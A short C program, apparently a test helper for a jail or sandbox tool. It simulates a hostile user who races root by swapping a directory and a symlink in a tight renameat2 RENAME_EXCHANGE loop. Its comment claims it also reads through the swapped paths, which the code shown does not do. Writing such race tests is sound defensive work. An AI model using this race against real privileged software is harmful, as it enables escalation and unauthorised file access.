/* What a hostile user does while root works on the jail: in the home that is the working directory, with `open` held open, exchanges the directory `bait` with the
 * link `hook` as fast as it can, and writes whatever it can read through either. Ends with its input. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <poll.h>
#include <stdio.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE 2
#endif

int main(void)
{
    int held = open("open", O_RDONLY | O_DIRECTORY);
    if (held < 0 || write(1, "exchanging\n", 11) != 11)
        return 1;
    long count = 0;
    struct pollfd end = {.fd = 0, .events = POLLIN};
    while (poll(&end, 1, 0) == 0) {
        for (int i = 0; i < 200; i++, count++) {
            syscall(SYS_renameat2, AT_FDCWD, "bait", AT_FDCWD, "hook", RENAME_EXCHANGE);
            syscall(SYS_renameat2, held, "inner", held, "link", RENAME_EXCHANGE);
        }
    }
    printf("exchanged %ld times\n", count);
    return 0;
}
